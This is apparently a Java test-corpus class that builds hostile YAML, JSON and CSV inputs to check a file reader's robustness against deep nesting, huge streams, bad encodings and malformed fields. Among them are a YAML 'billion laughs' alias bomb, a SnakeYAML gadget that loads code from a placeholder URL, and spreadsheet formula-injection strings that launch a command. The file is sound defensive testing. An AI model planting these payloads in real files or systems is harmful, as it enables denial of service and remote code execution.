package dev.solvent.files.corpus;

import dev.solvent.files.source.Source;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.IntUnaryOperator;
import java.util.function.Supplier;
import java.util.regex.Matcher;

/** Files made by hand to hurt a reader. */
final class Hostile {

    /** A file that is made anew each time it is read. */
    record Case(String title, Supplier<Source> source) {

        @Override
        public String toString() {
            return title;
        }
    }

    private static final String[][] YAML_FAULTS = {
        {"name: Clip\n", ""},
        {"name: Clip", "name: Clip\nname: Clop"},
        {"name: Clip", "name: [Clip"},
        {"name: Clip", "name: \"Clip"},
        {"name: Clip", "name: 'Clip"},
        {"name: Clip", "name: {Clip"},
        {"name: Clip", "name Clip"},
        {"name: Clip", "name:Clip"},
        {"name: Clip", "name: Clip: Clop"},
        {"name: Clip", "name: @Clip"},
        {"name: Clip", "name: `Clip`"},
        {"name: Clip", "name: %Clip"},
        {"name: Clip", "name: - Clip"},
        {"name: Clip", "\tname: Clip"},
        {"name: Clip", " name: Clip"},
        {"name: Clip", "name:"},
        {"name: Clip", "name: 2027"},
        {"name: Clip", "name: true"},
        {"name: Clip", "name: |3\n x"},
        {"name: Clip", "name: \"\\q\""},
        {"open: true", "open: yes"},
        {"open: true", "open: True"},
        {"open: true", "open: \"true\""},
        {"  - name: free", "   - name: free"},
        {"    share: 0.95", "     share: 0.95"},
        {"    share: 0.95", "\tshare: 0.95"},
        {"share: 0.95", "share: 95 %"},
        {"share: 0.95", "share: 1.5"},
        {"0.95]", "0.95"},
        {"[0.05,", "[0.05"},
        {"starting: 2027-01", "starting: 2027"},
        {"starting: 2027-01", "begin: 2027-01"},
        {"USD per month", "USD"},
        {"segments:", "segments: []\nsegment:"},
        {"months: 36", "months: {at least: 36}"},
    };

    private static final String[][] CLAIM_FAULTS = {
        {",12,", ",twelve,"},
        {",12,", ",-12,"},
        {",12,", ",,"},
        {"5000000,10000000", "10000000,5000000"},
        {"5000000,10000000", ","},
        {"5000000,10000000", "5 million,10000000"},
        {"percent", ""},
        {"2025-09-30", "2024-09-30"},
        {"P-2", "P-1"},
        {"USD", "dollars"},
    };

    private static final String[][] PRICE_FAULTS = {
        {"video_second", "video_minute"},
        {"0.035", "-0.035"},
        {"0.035", "0"},
        {"0.035", "350000"},
        {"0.035", "free"},
        {"service=batch", "batch"},
        {"service=batch", "service=batch;"},
        {"service=batch", "prompt_tokens>many"},
        {"service=batch,2026-10-01", ",2026-10-01"},
        {"2026-10-01", "October"},
        {"input_mtok,2.50,USD", "input_mtok,2.50,EUR"},
        {",free", ","},
    };

    private static final String[][] JSON_FAULTS = {
        {"\"name\": \"Clip\",", "\"name\": \"Clip\", \"name\": \"Clop\","},
        {"\"name\": \"Clip\",", ""},
        {"\"name\"", "name"},
        {"\"Clip\"", "'Clip'"},
        {"\"Clip\"", "\"Cl\nip\""},
        {"\"Clip\"", "\"Cl\\xip\""},
        {"\"Clip\"", "42"},
        {"\"Clip\"", "null"},
        {"\"Clip\"", "\"\""},
        {"\"Clip\"", "[\"Clip\"]"},
        {"\"Clip\"", "{}"},
        {"\"Clip\",", "\"Clip\" // the name\n,"},
        {"\"Clip\",", "\"Clip\" /* the name */,"},
        {"0.95]", "0.95,]"},
        {"[0.05", "[,0.05"},
        {"true", "True"},
        {"true", "\"true\""},
        {"true", "1"},
        {"\"months\"", "\"month\""},
        {"\"discount\"", "\"disconut\""},
        {"0.12", "12"},
        {"0.95,", "\"0.95\","},
        {"9.99 USD per month", "9.99"},
        {"\"9.99 USD per month\"", "9.99"},
        {"}\n", "}\n{}"},
        {"}\n", ""},
        {"{\n", "[\n"},
        {"\"segments\": [", "\"segments\": {"},
    };

    private static final String[][] TRANSACTION_FAULTS = {
        {"2026-02-28", "2026-02-29"},
        {"2026-02-28", "28.02.2026"},
        {"2026-02-28", "2026-2-28"},
        {"2026-02-28", "2026-02-28T10:00:00Z"},
        {"2026-02-28", "2026-W09-6"},
        {"2026-02-28", ""},
        {"2026-02-28,-9.99,USD", "2026-02-28,-9.99,EUR"},
        {"120,USD", "120,usd"},
        {"120,USD", "120,XXY"},
        {"120,USD", "120,$"},
        {"120,USD", "120,"},
        {"120,USD", "120"},
        {"120", "USD 120"},
        {"c-1,2026-01-31", ",2026-01-31"},
        {"c-1,2026-01-31", " c-1,2026-01-31"},
    };

    private static final List<String> BEYOND_LIMITS = List.of(
            "1e999",
            "-1e999",
            "1e100000000",
            "1e-100000000",
            "1e-400",
            "1E2147483648",
            "9".repeat(65),
            "9".repeat(20_000),
            "0." + "3".repeat(100),
            "2e308");

    private static final List<String> NO_MONTHS = List.of(
            "NaN",
            "Infinity",
            "-Infinity",
            ".nan",
            ".inf",
            "+12",
            ".5",
            "1.",
            "017",
            "0x1F",
            "1_000",
            "1,000",
            "1 000",
            "1:30",
            "12 %",
            "-1",
            "0",
            "1e308",
            "5e-324",
            "36.5",
            "~",
            "null",
            "no",
            "2026-01-01");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "=cmd|' /C calc'!A0",
            "\"=HYPERLINK(\"\"http://x\"\")\"",
            "\"\t=1\"",
            " =1+1",
            "＝1+1",
            "=",
            "-",
            "+",
            "@x");

    private static final int HUGE = 100_000_000;
    private final List<Case> cases = new ArrayList<>();

    private Hostile() {}

    static List<Case> all() {
        Hostile hostile = new Hostile();
        hostile.deep();
        hostile.numbers();
        hostile.aliases();
        hostile.encodings();
        hostile.huge();
        hostile.documents();
        hostile.tables();
        hostile.cells();
        return List.copyOf(hostile.cases);
    }

    private void add(String title, String name, String text) {
        cases.add(new Case(title, () -> Source.of(name, text)));
    }

    private void addBytes(String title, String name, byte[] bytes) {
        cases.add(new Case(title, () -> Source.of(name, new ByteArrayInputStream(bytes))));
    }

    /** A stream of bytes by their position, which is never held in memory. */
    private void addMade(String title, String name, long length, IntUnaryOperator byteAt) {
        cases.add(new Case(title, () -> Source.of(name, new Made(length, byteAt))));
    }

    private void deep() {
        for (int depth : new int[] {33, 1_000, 10_000, 100_000}) {
            add("json lists " + depth, "a.json", "[".repeat(depth) + "]".repeat(depth));
            add("json lists unclosed " + depth, "a.json", "[".repeat(depth));
            add("json objects " + depth, "a.json", "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
            add("yaml flow lists " + depth, "a.yaml", "[".repeat(depth) + "]".repeat(depth));
            add("yaml flow lists unclosed " + depth, "a.yaml", "[".repeat(depth));
            add("yaml flow objects " + depth, "a.yaml", "{a: ".repeat(depth) + "1" + "}".repeat(depth));
            add("yaml dashes " + depth, "a.yaml", "- ".repeat(depth));
            add("yaml questions " + depth, "a.yaml", "? ".repeat(depth));
            add("yaml flow lists in lines " + depth, "a.yaml", "[\n".repeat(depth));
        }
        StringBuilder stairs = new StringBuilder();
        for (int i = 0; i < 1_000; i++) {
            stairs.append(" ".repeat(i)).append("a:\n");
        }
        add("yaml stairs", "a.yaml", stairs.toString());
    }

    private void numbers() {
        for (String number : BEYOND_LIMITS) {
            String title = number.length() > 20 ? number.length() + " digits" : number;
            add("json number " + title, "a.json", Samples.JSON.replace("36", number));
            add("yaml number " + title, "a.yaml", Samples.YAML.replace("36", number));
            add("csv number " + title, "transactions.csv", Samples.TRANSACTIONS.replace("120", number));
        }
        for (String number : NO_MONTHS) {
            add("json months " + number, "a.json", Samples.JSON.replace("36", number));
            add("yaml months " + number, "a.yaml", Samples.YAML.replace("36", number));
        }
        for (String number :
                List.of("NaN", "Infinity", "+12", ".5", "1_000", "1 000", "017", "0x1F", "12 %", "=1+1", "")) {
            add("csv amount " + number, "transactions.csv", Samples.TRANSACTIONS.replace("120", number));
            add("csv count " + number, "cohorts.csv", Samples.COHORTS.replace("1185", number));
        }
        add("csv count -1", "cohorts.csv", Samples.COHORTS.replace("1185", "-1"));
        add("csv count half", "cohorts.csv", Samples.COHORTS.replace("1185", "1184.5"));
        add("csv count 1e300", "cohorts.csv", Samples.COHORTS.replace("1185", "1e300"));
        add("csv count rising", "cohorts.csv", Samples.COHORTS.replace("858", "1186"));
        add("csv separators in quotes", "transactions.csv", Samples.TRANSACTIONS.replace("120", "\"1,200\""));
    }

    private void aliases() {
        StringBuilder laughs = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 12; i++) {
            laughs.append("a").append(i).append(": &a").append(i).append(" [");
            laughs.append(("*a" + (i - 1) + ", ").repeat(9)).append("x]\n");
        }
        add("yaml billion laughs", "a.yaml", laughs.toString());
        add("yaml alias to itself", "a.yaml", "a: &a [*a]\n");
        add("yaml alias of nothing", "a.yaml", "a: *nowhere\n");
        add("yaml anchor", "a.yaml", Samples.YAML.replace("name: free", "name: &free free"));
        add("yaml alias as key", "a.yaml", "a: &a x\n*a : 1\n");
        add("yaml merge key", "a.yaml", Samples.YAML + "<<: {name: x}\n");
        add("yaml tag of Java", "a.yaml", "a: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]\n");
        add("yaml tag str", "a.yaml", Samples.YAML.replace("36", "!!str 36"));
        add("yaml tag float", "a.yaml", Samples.YAML.replace("36", "!!float 36"));
        add("yaml tag binary", "a.yaml", "name: !!binary R0lGODlhDAAMAIQAAP\n");
        add("yaml local tag", "a.yaml", "name: !plan x\n");
        add("yaml directive", "a.yaml", "%YAML 1.1\n---\n" + Samples.YAML);
        add("yaml tag directive", "a.yaml", "%TAG ! tag:example.com,2000:\n---\n" + Samples.YAML);
        add("yaml unknown directive", "a.yaml", "%WHAT is this\n---\n" + Samples.YAML);
        add("yaml two documents", "a.yaml", Samples.YAML + "---\n" + Samples.YAML);
        add("yaml document after the end", "a.yaml", Samples.YAML + "...\nname: x\n");
        add("yaml object as key", "a.yaml", "{a: 1}: x\n");
        add("yaml list as key", "a.yaml", "? [a, b]\n: x\n");
        add("yaml no key", "a.yaml", ": x\n");
        add("yaml null key", "a.yaml", "? \n: x\n");
        add("yaml many anchors", "a.yaml", "- &a x\n".repeat(19_000));
    }

    private void encodings() {
        for (Samples.Sample sample : Samples.ALL) {
            String name = sample.name();
            String text = sample.text();
            addBytes(name + " UTF-16", name, text.getBytes(StandardCharsets.UTF_16));
            addBytes(name + " UTF-16LE", name, text.getBytes(StandardCharsets.UTF_16LE));
            addBytes(name + " UTF-16BE", name, text.getBytes(StandardCharsets.UTF_16BE));
            addBytes(name + " UTF-32", name, text.getBytes(Charset.forName("UTF-32")));
            addBytes(
                    name + " Latin-1",
                    name,
                    text.replace("c-1", "ç")
                            .replace("Clip", "Çlip")
                            .replace("late", "fév")
                            .replace("Acme", "Açme")
                            .replace("acme", "açme")
                            .getBytes(StandardCharsets.ISO_8859_1));
            add(name + " NUL", name, text.replaceFirst("[a-z]{4}", "a\0b"));
            add(name + " escape", name, text.replaceFirst("[a-z]{4}", "a\u001bb"));
            add(name + " C1", name, text.replaceFirst("[a-z]{4}", "a\u0085b"));
            add(name + " half a pair", name, text.replaceFirst("[a-z]{4}", "a\ud800b"));
            add(name + " mark within", name, text.replaceFirst("[a-z]{4}", "a\ufeffb"));
            add(name + " two marks", name, "\ufeff\ufeff" + text);
            add(name + " noncharacter", name, text.replaceFirst("[a-z]{4}", "a\uffffb"));
            addBytes(name + " overlong", name, bytes(text, 0xC0, 0x80));
            addBytes(name + " cut character", name, bytes(text, 0xE2, 0x82));
            addBytes(name + " surrogate bytes", name, bytes(text, 0xED, 0xA0, 0x80));
            add(name + " empty", name, "");
            add(name + " blank", name, " \n\n");
            add(name + " only NULs", name, "\0".repeat(1_000));
        }
        add("json mark", "a.json", "\ufeff" + Samples.JSON);
        add("yaml mark", "a.yaml", "\ufeff" + Samples.YAML);
        add("json escape of half a pair", "a.json", Samples.JSON.replace("Clip", "\\ud800"));
        add("json escape of NUL", "a.json", Samples.JSON.replace("Clip", "\\u0000"));
        add("json escape in key", "a.json", Samples.JSON.replace("\"name\": \"Clip\"", "\"\\u0000\": 1"));
        add("yaml escape of half a pair", "a.yaml", Samples.YAML.replace("Clip", "\"\\ud800\""));
        add("yaml escape of NUL", "a.yaml", Samples.YAML.replace("Clip", "\"\\0\""));
        add("yaml escape beyond Unicode", "a.yaml", Samples.YAML.replace("Clip", "\"\\UFFFFFFFF\""));
        add("yaml escape beyond the planes", "a.yaml", Samples.YAML.replace("Clip", "\"\\U00110000\""));
    }

    private static byte[] bytes(String text, int... tail) {
        byte[] start = text.getBytes(StandardCharsets.UTF_8);
        byte[] all = Arrays.copyOf(start, start.length + tail.length);
        for (int i = 0; i < tail.length; i++) {
            all[start.length + i] = (byte) tail[i];
        }
        return all;
    }

    private void huge() {
        for (String name : List.of("a.json", "a.yaml", "cohorts.csv", "transactions.csv", "claims.csv", "prices.csv")) {
            addMade(name + " 100 MB of one line", name, HUGE, at -> 'x');
            addMade(name + " 100 MB of digits", name, HUGE, at -> '7');
            addMade(name + " 100 MB of quotes", name, HUGE, at -> '"');
            addMade(name + " 100 MB of commas", name, HUGE, at -> ',');
            addMade(name + " 100 MB of short lines", name, HUGE, at -> at % 2 == 0 ? 'x' : '\n');
            addMade(name + " 100 MB of line ends", name, HUGE, at -> '\n');
            addMade(name + " 100 MB of brackets", name, HUGE, at -> '[');
        }
        add("json half a MB of values", "a.json", "[" + "1,\n".repeat(174_000) + "1]");
        add("json half a MB of keys", "a.json", "{" + "\"a\":1,\n".repeat(74_000) + "\"a\":1}");
        add("yaml half a MB of values", "a.yaml", "- 1\n".repeat(131_000));
        add("yaml half a MB of keys", "a.yaml", "a: 1\n".repeat(104_000));
        add("yaml half a MB of a flow", "a.yaml", "[\n" + "1,\n".repeat(174_000) + "1]");
        add("yaml half a MB of comments", "a.yaml", "# x\n".repeat(131_000));
        add("yaml half a MB of text", "a.yaml", "a: " + "x y\n  ".repeat(87_000));
        add("yaml half a MB in quotes", "a.yaml", "a: \"" + "x y\n  ".repeat(87_000) + "\"");
        add("yaml half a MB of block", "a.yaml", "a: |\n" + "  x\n".repeat(131_000));
        add("yaml half a MB of colons", "a.yaml", "a: ".repeat(10_000));
        add("yaml half a MB of tabs", "a.yaml", "\t\n".repeat(262_000));
        add("yaml half a MB of blanks", "a.yaml", (" ".repeat(30_000) + "\n").repeat(17));
        add("yaml half a MB of questions", "a.yaml", "? x\n".repeat(131_000));
        add("yaml half a MB of unclosed quotes", "a.yaml", "- 'x\n".repeat(104_000));
        add("yaml half a MB of stars", "a.yaml", "- *a\n".repeat(104_000));
        add("yaml half a MB of directives", "a.yaml", "%A b\n".repeat(104_000));
        add("yaml half a MB of document starts", "a.yaml", "---\n".repeat(131_000));
        add("yaml half a MB of different keys", "a.yaml", numbered("k", ": 1\n", 48_000));
        add("yaml half a MB of anchors", "a.yaml", numbered("- &a", " 1\n", 40_000));
        add("yaml half a MB of lists of lists", "a.yaml", "- [[], []]\n".repeat(47_000));
        add("json half a MB of different keys", "a.json", "{" + numbered("\"k", "\": 1,\n", 37_000) + "\"k\": 1}");
        add("json long text", "a.json", Samples.JSON.replace("Clip", "x".repeat(5_000)));
        add("yaml long text", "a.yaml", Samples.YAML.replace("Clip", "x".repeat(5_000)));
        add("json long key", "a.json", Samples.JSON.replace("notes", "n".repeat(200)));
        add("yaml long key", "a.yaml", Samples.YAML.replace("notes", "n".repeat(200)));
        add("yaml very long key", "a.yaml", Samples.YAML.replace("notes", "n".repeat(2_000)));
        add("csv long cell", "transactions.csv", Samples.TRANSACTIONS.replace("c-2", "c".repeat(5_000)));
        add("csv unclosed quote", "transactions.csv", Samples.TRANSACTIONS + "\"" + "x,\n".repeat(300_000));
        add(
                "csv a million bad rows",
                "transactions.csv",
                "customer,date,amount,currency\n" + "a,b,c,d\n".repeat(125_000));
    }

    private static String numbered(String before, String after, int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(before).append(i).append(after);
        }
        return text.toString();
    }

    private void documents() {
        for (String[] fault : JSON_FAULTS) {
            String changed = Samples.JSON.replace(fault[0], fault[1]);
            add("json " + fault[0] + " as " + fault[1], "a.json", changed);
        }
        add("json a number alone", "a.json", "42");
        add("json a text alone", "a.json", "\"x\"");
        add(
                "json no segments",
                "a.json",
                "{\"name\": \"x\", \"starting\": \"2027-01\", \"months\": 1, \"segments\": []}");
        for (String[] fault : YAML_FAULTS) {
            String changed = Samples.YAML.replace(fault[0], fault[1]);
            add("yaml " + fault[0] + " as " + fault[1], "a.yaml", changed);
        }
        add("unknown word", "a.yaml", "weibull\n");
        add("yaml dash only", "a.yaml", "-\n");
    }

    private void tables() {
        for (String formula : FORMULAS) {
            String title = "formula " + formula;
            add(title + " in customer", "transactions.csv", Samples.TRANSACTIONS.replaceFirst("c-1", safe(formula)));
            add(title + " in cohort", "cohorts.csv", Samples.COHORTS.replaceFirst("2026-01", safe(formula)));
            add(title + " in claim", "claims.csv", Samples.CLAIMS.replaceFirst("Acme", safe(formula)));
            add(title + " in model", "prices.csv", Samples.PRICES.replaceFirst("film-1", safe(formula)));
        }
        for (Samples.Sample sample : Samples.ALL.subList(2, 6)) {
            String name = sample.name();
            String text = sample.text();
            add(name + " no header", name, text.substring(text.indexOf('\n') + 1));
            add(name + " CR alone", name, text.replace('\n', '\r'));
            add(name + " blank line", name, text.replaceFirst("\n", "\n\n"));
            add(name + " one cell more", name, text.replaceFirst("\n(.*)\n", "\n$1,1,1,1,1\n"));
            add(name + " semicolons", name, text.replace(',', ';'));
            add(name + " tabs", name, text.replace(',', '\t'));
            add(name + " quote within", name, text.replaceFirst("\n(..)", "\n$1\"x"));
            add(name + " text after a quote", name, text.replaceFirst("\n(..)", "\n\"x\"$1"));
            add(name + " unclosed quote", name, text + "\"x");
            add(name + " column twice", name, text.replaceFirst(",([a-z0-9]+)", ",$1,$1"));
            add(name + " unknown column", name, text.replaceFirst(",([a-z0-9]+)", ",$1x"));
            add(name + " header only half", name, text.substring(0, 6));
            add(name + " columns in capitals", name, text.replaceFirst("^[a-z]+", "X$0"));
            if (!name.startsWith("transactions")) {
                add(name + " rows repeated", name, text + text.substring(text.indexOf('\n') + 1));
            }
        }
    }

    private void cells() {
        for (String[] fault : TRANSACTION_FAULTS) {
            String title = "transactions " + fault[0] + " as " + fault[1];
            add(title, "transactions.csv", Samples.TRANSACTIONS.replace(fault[0], fault[1]));
        }
        for (String[] fault : CLAIM_FAULTS) {
            add("claims " + fault[0] + " as " + fault[1], "claims.csv", Samples.CLAIMS.replace(fault[0], fault[1]));
        }
        for (String[] fault : PRICE_FAULTS) {
            add("prices " + fault[0] + " as " + fault[1], "prices.csv", Samples.PRICES.replace(fault[0], fault[1]));
        }
    }

    private static String safe(String replacement) {
        return Matcher.quoteReplacement(replacement);
    }

    /** Bytes that exist only while they are read. */
    private static final class Made extends InputStream {

        private final long length;
        private final IntUnaryOperator byteAt;
        private long at;

        Made(long length, IntUnaryOperator byteAt) {
            this.length = length;
            this.byteAt = byteAt;
        }

        @Override
        public int read() {
            return at < length ? byteAt.applyAsInt((int) at++) : -1;
        }

        @Override
        public int read(byte[] into, int offset, int count) {
            if (at >= length) {
                return -1;
            }
            int got = (int) Math.min(count, length - at);
            for (int i = 0; i < got; i++) {
                into[offset + i] = (byte) byteAt.applyAsInt((int) at++);
            }
            return got;
        }
    }
}
